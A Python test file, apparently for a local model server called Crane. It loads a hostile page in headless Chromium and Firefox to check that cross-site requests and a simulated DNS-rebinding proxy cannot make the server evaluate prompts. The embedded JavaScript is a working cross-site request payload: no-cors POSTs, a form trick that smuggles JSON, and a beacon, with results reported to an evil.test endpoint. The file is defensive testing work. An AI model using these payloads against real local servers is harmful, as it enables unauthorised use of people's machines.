"""A page of another site in a real browser: what can it make the server on this machine do?

The page comes from names that the browser takes for strangers' (`evil.test`, `rebind.test`), both mapped to this machine. The
second one's port first gives the page and then hands every connection on to Crane: to the browser and to Crane that is what
a name does that is bound to another address.
"""

import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from rows import Row
from server import CHAT, TINY, Server

# A browser's start on a busy machine.
PATIENCE = 60
NAMES = {"chromium": ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"], "firefox": ["firefox-esr", "firefox"]}

PAGE = """<!doctype html><title>x</title><script>
const target = TARGET, body = JSON.stringify({max_tokens: 2, messages: [{role: "user", content: "hi"}]}), told = {};
async function attempt(name, path, options) {
  try {
    const answer = await fetch(target + path, options);
    told[name] = answer.type === "opaque" ? "sent blindly" : answer.status + " " + (await answer.text()).slice(0, 80);
  } catch (error) { told[name] = "" + error; }
}
async function all() {
  await attempt("simple", "CHAT", {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body});
  await attempt("form", "CHAT", {method: "POST", mode: "no-cors", headers: {"content-type": "application/x-www-form-urlencoded"}, body});
  await attempt("blob", "CHAT", {method: "POST", mode: "no-cors", body: new Blob([body])});
  await attempt("preflighted", "CHAT", {method: "POST", headers: {"content-type": "application/json"}, body});
  await attempt("read", "/v1/models", {});
  await attempt("credentials", "CHAT", {method: "POST", mode: "no-cors", credentials: "include", keepalive: true, body});
  navigator.sendBeacon(target + "CHAT", body);
  await new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "f"; document.documentElement.append(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.enctype = "text/plain"; form.action = target + "CHAT"; form.target = "f";
    const field = document.createElement("input");
    field.name = body.slice(0, -1) + ',"user":"'; field.value = '"}'; form.append(field); document.documentElement.append(form);
    frame.onload = () => done(); form.submit(); setTimeout(done, 3000);
  });
  await fetch("REPORT", {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
}
all();
</script>"""


class Site:
    """The stranger's server: its page, and what the page reports."""

    def __init__(self, crane: int):
        self.told, self.reported, site = {}, threading.Event(), self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                page = PAGE.replace("TARGET", json.dumps(f"http://127.0.0.1:{crane}")).replace("CHAT", CHAT).replace("REPORT", "/report")
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode() if self.path == "/" else b"")

            def do_POST(self):
                site.told = json.loads(self.rfile.read(int(self.headers["content-length"])))
                self.send_response(204)
                self.end_headers()
                site.reported.set()

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


class Rebound:
    """A port that gives a page to the first who asks for `/`, and hands all else on to Crane."""

    def __init__(self, crane: int, report: int):
        self.crane = crane
        page = PAGE.replace("TARGET", '""').replace("CHAT", CHAT).replace("REPORT", f"http://evil.test:{report}/report").encode()
        head = f"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {len(page)}\r\nconnection: close\r\n\r\n"
        self.page = head.encode() + page
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.run, daemon=True).start()

    def run(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.answer, args=(client,), daemon=True).start()

    def answer(self, client: socket.socket) -> None:
        try:
            first = client.recv(65536)
            if first.startswith(b"GET / "):
                client.sendall(self.page)
                client.close()
                return
            crane = socket.create_connection(("127.0.0.1", self.crane))
            crane.sendall(first)
            threading.Thread(target=pipe, args=(client, crane), daemon=True).start()
            pipe(crane, client)
        except OSError:
            client.close()


def pipe(source: socket.socket, target: socket.socket) -> None:
    try:
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def program(browser: str) -> str | None:
    named = os.environ.get(browser.upper())
    return named or next((path for name in NAMES[browser] if (path := shutil.which(name))), None)


def command(browser: str, executable: str, profile: str, address: str) -> list[str]:
    if browser == "chromium":
        rules = "MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.1"
        return [executable, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync",
                "--disable-component-update", f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", address]
    preferences = {
        "network.dns.localDomains": "evil.test,rebind.test", "network.proxy.type": 0, "browser.shell.checkDefaultBrowser": False, "toolkit.telemetry.enabled": False,
        "datareporting.policy.dataSubmissionEnabled": False, "browser.aboutwelcome.enabled": False, "app.update.enabled": False, "dom.security.https_first": False,
    }
    lines = [f"user_pref({json.dumps(name)}, {json.dumps(value)});" for name, value in preferences.items()]
    Path(profile, "user.js").write_text("\n".join(lines))
    return [executable, "--headless", "--no-remote", "--profile", profile, address]


def visit(browser: str, executable: str, address: str, reported: threading.Event) -> bool:
    """Opens a page until it has reported. Whether it did."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        # Firefox does not start for root where the home folder is another user's.
        environment = {**os.environ, "HOME": profile, "MOZ_HEADLESS": "1"}
        child = subprocess.Popen(command(browser, executable, profile, address), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=environment, start_new_session=True)
        try:
            return reported.wait(PATIENCE)
        finally:
            # It has processes of its own, which are of its group.
            os.killpg(child.pid, 15)
            try:
                child.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(child.pid, 9)
                child.wait()


def reached(server: Server) -> int:
    """Tokens of prompts that came to a model."""
    return int(server.counter("crane_prompt_tokens_total"))


def foreign(crane: str) -> list[Row]:
    wrong, told, numbers, visited = [], [], {}, 0
    with Server(crane, TINY, "--ctx", "512") as server:
        # A client without a browser's headers does get an answer, or nothing would be shown.
        body = json.dumps({"max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]}).encode()
        if server.ask(CHAT, body, **{"Content-Type": "application/x-www-form-urlencoded"})[0] != 200:
            wrong.append("a client without a browser's headers is refused")
        for browser in NAMES:
            executable = program(browser)
            if not executable:
                told.append(f"no {browser} here")
                continue
            for name in ("evil", "rebind"):
                site = Site(server.port)
                rebound = Rebound(server.port, site.port)
                before = reached(server)
                port = site.port if name == "evil" else rebound.port
                if not visit(browser, executable, f"http://{name}.test:{port}/", site.reported):
                    wrong.append(f"{browser}: the page of {name}.test did not report")
                    continue
                visited += 1
                # What was sent without waiting for an answer.
                time.sleep(1)
                tokens = reached(server) - before
                said = site.told
                numbers[f"{browser} {name}"] = {"prompt_tokens": tokens, "page": said}
                if tokens:
                    wrong.append(f"{browser}: a page of {name}.test had {tokens} tokens evaluated")
                if read := [what for what, answer in said.items() if answer[:3] == "200"]:
                    wrong.append(f"{browser}: a page of {name}.test reads the answers to {', '.join(read)}")
        alive = server.is_alive()
    if not alive:
        wrong.append("the server ended")
    if not visited:
        wrong.append("no browser showed a page")
    tokens = sum(each["prompt_tokens"] for each in numbers.values())
    told.insert(0, f"{visited} pages with 8 kinds of requests each had {tokens} tokens evaluated")
    return [Row("a foreign page in Chromium and Firefox: simple POST, preflighted, rebinding", "none reaches a model", "; ".join(told), wrong, numbers)]
